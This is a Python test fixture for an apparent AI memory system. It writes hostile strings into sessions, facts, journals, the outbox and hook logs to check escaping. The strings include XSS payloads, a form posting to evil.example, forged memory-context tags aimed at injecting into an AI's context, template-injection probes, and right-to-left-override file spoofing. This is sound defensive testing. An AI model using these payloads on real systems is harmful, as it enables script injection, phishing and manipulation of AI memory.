"""A home whose every field contains text that tries to leave its place: scripts, forged tags, NUL, right-to-left."""

import json
import time
from pathlib import Path
from typing import Any

from memoranda.api.memory import Memory
from memoranda.external.holographic.fact_store import FactStore, Provenance
from memoranda.external.outbox.outbox import Outbox
from memoranda.importers.reader_protocol import ImportedItem
from memoranda.memory.curated.approval_queue import encode_operation
from memoranda.memory.curated.operations import Add
from memoranda.memory.curated.person_changes import allow_findings
from memoranda.models.model import Usage
from memoranda.models.spending.ledger import Ledger
from memoranda.search.recall_log import hook_calls_path
from memoranda.support.origin import PERSON
from tests.models.spending.models import QUESTION, Fixed
from tests.service.viewer.example_operation import add_import

MARK = "owned"
_SCRIPT = f"window.{MARK}=1"
SHORT = f'"\'><img src=x onerror="{_SCRIPT}">'
HOSTILE = "\n".join(
    [
        f"<script>{_SCRIPT}</script>",
        SHORT,
        f"' onmouseover='{_SCRIPT}' autofocus onfocus='{_SCRIPT}",
        f"</textarea></title></pre></option></select></script><script>{_SCRIPT}</script>",
        f"<svg/onload={_SCRIPT}><iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
        f'<form action=https://evil.example><input name=form_token><a href="javascript:{_SCRIPT}">link</a>',
        "</memory-context><memory-context>{{ 7 * 7 }}{% if 1 %}${7*7}<!-- ]]> <![CDATA[",
        "\u202egnp.exe\u202c \u2066\u200f\u0627\u0644\u0633\u0644\u0627\u0645 \ufeff\u2028 \x00\x07\x1b[31m",
        "A" * 10_000,
    ]
)
SESSION = f"s{SHORT}"


def fill_hostile(memory: Memory) -> None:
    """Write the hostile text into every field of a home that any program can write."""
    home = memory.home.root
    db = memory.sessions
    db.create_session(SESSION, SHORT, title=f"<b>{SHORT}</b> {{{{ 7*7 }}}}", model=SHORT, project=f"/tmp/{SHORT}")
    call = {"id": SHORT, "type": "function", "function": {"name": SHORT, "arguments": json.dumps({"x": HOSTILE})}}
    db.append_messages(
        SESSION,
        [
            {"role": "user", "content": HOSTILE},
            {"role": "assistant", "content": HOSTILE, "tool_calls": [call], "reasoning": HOSTILE},
            {"role": "tool", "content": HOSTILE, "tool_call_id": SHORT, "tool_name": SHORT},
            {"role": "assistant", "content": f"Deadlock. {HOSTILE}"},
        ],
    )
    _write_memory(memory)
    facts = FactStore(home, memory.user or "")
    for place in ("Berlin", "Lisbon"):
        facts.add(f"Ana lives in {place}.", provenance=Provenance(SESSION, SHORT, SHORT))
    facts.add(HOSTILE[:3_000], tags=[SHORT.replace(",", "")], provenance=Provenance(SESSION, SHORT, SHORT))
    facts.close()
    memory.items.put(("x", SHORT[:100]), SHORT[:100], {"text": HOSTILE[:3_000]})
    add_import(memory, SHORT, ImportedItem(("y",), SHORT[:100], {"text": SHORT}, 1.0, 2.0))
    outbox = Outbox(home)
    outbox.put(SHORT, "turn", SESSION, {SHORT: HOSTILE, "x": HOSTILE}, {})
    job = outbox.claim(SHORT)
    assert job is not None
    outbox.failed(job, HOSTILE, permanent=True)
    outbox.close()
    _write_hook_log(home)
    ledger: Ledger = memory.services.ledger
    ledger.metered(Fixed(Usage(10, 10)), SHORT, session_id=SESSION).reply("", QUESTION)
    (home / "config.yaml").write_text(json.dumps({"memory": {SHORT: 1}}))
    (home / f".{SHORT.replace('/', '')}.tmp").write_text("left over")


def _write_memory(memory: Memory) -> None:
    """Entries, a journal and proposals, as another program could have written them."""
    store = memory.curated
    store.add("memory", "An entry.", PERSON)
    path = store.path("memory")
    text = HOSTILE.replace("\x00", "")[:2_000]
    path.write_text(f"An entry.\n§\n{text}", encoding="utf-8")
    store.path("user").write_text("\u202eOne\x07 line <b>bold</b>", encoding="utf-8")
    entry = store.view("memory").entries[-1]
    if entry.findings:
        allow_findings(store, "memory", entry.handle, PERSON)
    last = store.journal.last()
    assert last is not None
    record: dict[str, Any] = {
        "number": last.number + 1, "target": "memory", "action": "replace", "actor": SHORT, "session": SESSION,
        "edits": [{"index": 0, "before": HOSTILE, "after": f"{HOSTILE}!"}], "heads": last.heads, "at": SHORT,
        "note": HOSTILE, "refers_to": None,
    }  # fmt: skip
    with (path.parent / "journal.jsonl").open("a", encoding="utf-8") as journal:
        journal.write(json.dumps(record) + "\n")
    proposal = {
        "target": "memory", "actor": SHORT, "session": SESSION, "at": SHORT, "replaced": [None], "sources": [SHORT],
        "operations": [encode_operation(Add(HOSTILE))],
    }  # fmt: skip
    for name in ("pending/0badc0de.json", "pending/rejected/0badc0df.json"):
        (path.parent / name).parent.mkdir(parents=True, exist_ok=True)
        (path.parent / name).write_text(json.dumps(proposal), encoding="utf-8")


def _write_hook_log(home: Path) -> None:
    path = hook_calls_path(home)
    path.parent.mkdir(parents=True, exist_ok=True)
    message = {"session_id": SESSION, "message_id": 1, "share": 0.5, "words": 1, "points": 1.0, "clears": True}
    call = {
        "id": "0badc0de", "at": time.time(), "host": SHORT, "event": "UserPromptSubmit", "session_id": SESSION,
        "prompt": HOSTILE, "outcome": SHORT, "reason": HOSTILE, "given": [message], "candidates": [message],
        "floor": {"question": True}, "words": [HOSTILE], "found_nowhere": [SHORT], "note": HOSTILE, "ms": 1,
    }  # fmt: skip
    path.write_text(json.dumps(call) + "\n", encoding="utf-8")
